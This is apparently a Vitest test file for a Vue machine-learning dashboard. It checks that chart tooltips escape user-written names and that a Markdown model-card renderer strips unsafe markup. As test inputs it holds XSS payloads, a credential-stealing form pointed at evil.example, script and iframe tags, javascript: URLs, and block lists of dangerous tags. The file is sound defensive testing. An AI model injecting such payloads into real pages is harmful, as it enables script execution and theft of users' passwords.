// User-written text (run names, metric and param keys, route and model names, model cards) never becomes markup:
// chart tooltips (ECharts sets them as innerHTML) and the model card renderer.
import { afterEach, describe, expect, it, vi } from 'vitest'
import { mount } from '@vue/test-utils'
import { createVuetify } from 'vuetify'
import * as components from 'vuetify/components'
import * as directives from 'vuetify/directives'
import * as echarts from 'echarts/core'
import { ScatterChart } from 'echarts/charts'
import { SVGRenderer } from 'echarts/renderers'
import { getECData } from 'echarts/lib/util/innerStore.js'
import { i18n } from '@/i18n'
import { escapeHtml } from '@/format'
import { renderMarkdown } from '@/markdown'
import type { Usage } from '@/api/gateway'
import type { Run } from '@/views/experiments/runs'
import { compareChart, metricChart, parallelChart } from '@/views/experiments/charts'
import { valueChart } from '@/views/training/sweeps'
import UsageCharts from '@/views/gateway/UsageCharts.vue'

vi.mock('vue-echarts', async () => {
  const { defineComponent, h } = await import('vue')
  return {
    default: defineComponent({
      name: 'VChart',
      props: { option: { type: Object, default: null } },
      render() {
        return h('div', { class: 'chart-stub' })
      },
    }),
  }
})

// jsdom has no canvas: the real ECharts draws on SVG here; its tooltips are HTML as in the browser.
echarts.use([ScatterChart, SVGRenderer])

const XSS = '<img src=x onerror="window.__xss=1">'

let charts: echarts.ECharts[] = []
afterEach(() => {
  charts.forEach((c) => c.dispose())
  charts = []
  document.body.innerHTML = ''
})

/** The tooltip HTML ECharts shows for each data point of each series of a chart. */
async function tooltips(option: object): Promise<string[]> {
  const el = document.createElement('div')
  document.body.appendChild(el)
  const chart = echarts.init(el, null, { renderer: 'svg', width: 600, height: 400 })
  charts.push(chart)
  chart.setOption(option)
  const series = (option as { series: { type: string; data: unknown[] }[] }).series
  const tip = () => [...el.querySelectorAll('div')].reverse().find((d) => d.style.zIndex === '9999999')?.innerHTML ?? ''
  const shown: string[] = []
  for (const [seriesIndex, s] of series.entries()) {
    if (s.type === 'parallel') {
      // Parallel lines have no showTip by index: hover each line's shape, as the mouse does.
      const zr = chart.getZr() as unknown as {
        storage: { getDisplayList(all: boolean): object[] }
        handler: { trigger(name: string, e: object): void }
      }
      const lines = zr.storage
        .getDisplayList(true)
        .filter(
          (e) => getECData(e as never).seriesIndex === seriesIndex && getECData(e as never).dataIndex !== undefined,
        )
      for (const target of lines) {
        zr.handler.trigger('mousemove', { target, topTarget: target, offsetX: 100, offsetY: 100, event: {}, stop() {} })
        await new Promise((r) => setTimeout(r, 0))
        shown.push(tip())
      }
      continue
    }
    for (let dataIndex = 0; dataIndex < s.data.length; dataIndex++) {
      chart.dispatchAction({ type: 'showTip', seriesIndex, dataIndex })
      await new Promise((r) => setTimeout(r, 0))
      shown.push(tip())
    }
  }
  return shown
}

function expectInert(html: string[]) {
  expect(html.length).toBeGreaterThan(0)
  expect(html.join('')).toContain('&lt;img')
  for (const h of html) expect(h).not.toMatch(/<img/i)
}

const run = (id: string, name: string, params: Record<string, string> = {}, loss = 1): Run => ({
  id,
  experiment_id: 'e',
  experiment_name: 'exp',
  team_id: 't',
  name,
  status: 'FINISHED',
  start_time: '2026-01-01T00:00:00Z',
  end_time: null,
  params,
  tags: {},
  metrics: { [XSS]: { value: loss, step: 1, timestamp: 0 } },
  job_id: null,
  model_version_id: null,
  base_model_version_id: null,
  dataset_version_ids: [],
  created_by: null,
  user_name: null,
  lifecycle: 'active',
  created_at: '2026-01-01T00:00:00Z',
  updated_at: '2026-01-01T00:00:00Z',
})

describe('escapeHtml', () => {
  it('escapes the five characters that matter in HTML text and attributes', () => {
    expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe(
      '&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;',
    )
    expect(escapeHtml(XSS)).toBe('&lt;img src=x onerror=&quot;window.__xss=1&quot;&gt;')
    expect(escapeHtml(null)).toBe('')
    expect(escapeHtml(0.5)).toBe('0.5')
  })
})

describe('chart tooltips escape what users wrote', () => {
  it('sweeps: the metric name in the trial tooltip', async () => {
    const trials = [
      { job_id: 'j1', value: 0.5 },
      { job_id: 'j2', value: 0.25 },
    ] as Parameters<typeof valueChart>[0]
    const option = valueChart(trials, 'j2', XSS, { point: '#111', best: '#222' })
    const formatter = option.tooltip.formatter as (p: { data: { value: [number, number] } }) => string
    expect(formatter({ data: { value: [1, 0.5] } })).toBe(
      '#1: &lt;img src=x onerror=&quot;window.__xss=1&quot;&gt; 0.5',
    )
    expectInert(await tooltips(option))
  })

  it('experiments: run names and metric keys in the run, compare and parallel charts', async () => {
    const runs = [run('r1', XSS, { [XSS]: '1' }, 1), run('r2', `${XSS}2`, { [XSS]: '2' }, 2)]
    const series = { steps: [1, 2], values: [0.5, 0.4] }
    expectInert(await tooltips(metricChart(XSS, { ...series, count: 2 }, 0)))
    expectInert(await tooltips(compareChart(runs, { r1: series, r2: series })))
    const parallel = parallelChart(runs, [XSS], new Set([XSS]), [XSS])
    expect(parallel.dims).toBe(2)
    expectInert(await tooltips(parallel.option))
  })

  it('gateway usage: route, model, user and key names in every usage chart', async () => {
    const point = (group: string) => ({
      group,
      requests: 3,
      errors: 0,
      prompt_tokens: 10,
      completion_tokens: 5,
      cost: 0.25,
      p50_ms: 100,
      p95_ms: 200,
      cache_hits: 0,
    })
    const usage: Usage = {
      bucket: 'hour',
      group_by: 'model',
      series: [{ ...point(XSS), ts: '2026-03-01T08:00:00Z' }],
      totals: [point(XSS)],
    }
    const wrapper = mount(UsageCharts, {
      props: { usage, since: '2026-03-01T08:00:00Z', until: '2026-03-01T09:00:00Z' },
      global: { plugins: [i18n, createVuetify({ components, directives })] },
    })
    const options = wrapper.findAllComponents({ name: 'VChart' }).map((c) => c.props('option') as object)
    expect(options.length).toBeGreaterThanOrEqual(4)
    for (const option of options) {
      const html = await tooltips(option)
      expect(html.join('')).not.toMatch(/<img/i)
    }
    expectInert(await tooltips(options[0]))
    wrapper.unmount()
  })
})

describe('no page builds HTML from user text unescaped', () => {
  const sources = import.meta.glob('/src/**/*.{ts,vue}', { query: '?raw', import: 'default', eager: true }) as Record<
    string,
    string
  >

  it('every tooltip formatter function escapes (ECharts puts its result in innerHTML)', () => {
    const custom = Object.entries(sources).filter(([, code]) =>
      /tooltip:\s*\{[^}]*\bformatter:\s*(\(|function|[a-z]\w*\s*=>)/.test(code),
    )
    expect(custom.map(([file]) => file)).toContain('/src/views/training/sweeps.ts')
    for (const [file, code] of custom) expect(code, file).toContain('escapeHtml(')
  })

  it('v-html and innerHTML only in the Markdown view, which sanitises', () => {
    const raw = Object.entries(sources).filter(([, code]) =>
      /v-html|innerHTML|outerHTML|insertAdjacentHTML|document\.write/.test(code),
    )
    expect(raw.map(([file]) => file)).toEqual(['/src/components/MarkdownView.vue'])
    expect(sources['/src/components/MarkdownView.vue']).toContain('renderMarkdown(')
  })
})

describe('model cards', () => {
  it('keep what Markdown makes: headings, lists, code, tables, quotes, links and http(s) images', () => {
    const html = renderMarkdown(
      '# Title\n\n- a *b* **c**\n\n```\ncode\n```\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n> q\n\n' +
        '[docs](https://example.com/docs) ![logo](https://example.com/l.png)\n\n---\n',
    )
    for (const tag of [
      '<h1>',
      '<li>',
      '<em>',
      '<strong>',
      '<pre>',
      '<code>',
      '<table>',
      '<td>',
      '<blockquote>',
      '<hr>',
    ]) {
      expect(html).toContain(tag)
    }
    expect(html).toContain('<a href="https://example.com/docs" target="_blank" rel="noopener noreferrer">docs</a>')
    expect(html).toContain('<img src="https://example.com/l.png" alt="logo">')
  })

  it('drop styles, forms, scripts, frames, handlers, ids, classes and unsafe URLs', () => {
    const html = renderMarkdown(
      [
        '<style>body { display: none }</style>',
        '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
        '<script>window.__xss = 1</script>',
        '<iframe src="https://evil.example"></iframe>',
        '<img src=x onerror="window.__xss=1">',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<p id="app" class="v-overlay" style="position:fixed">overlay</p>',
        '<svg><a href="javascript:alert(1)">s</a></svg>',
        '[click](javascript:alert(1)) [mail](mailto:a@example.com) <a href="https://ok.example" target="_top">ok</a>',
      ].join('\n\n'),
    )
    for (const bad of [
      '<style',
      '<form',
      '<input',
      '<button',
      '<script',
      '<iframe',
      'onerror',
      'data:',
      '<svg',
      'javascript:',
      'id=',
      'class=',
      'style=',
      'action=',
      '_top',
    ]) {
      expect(html).not.toContain(bad)
    }
    expect(html).toContain('overlay')
    expect(html).toContain('href="mailto:a@example.com"')
    expect(html).toContain('<a href="https://ok.example" target="_blank" rel="noopener noreferrer">ok</a>')
  })
})
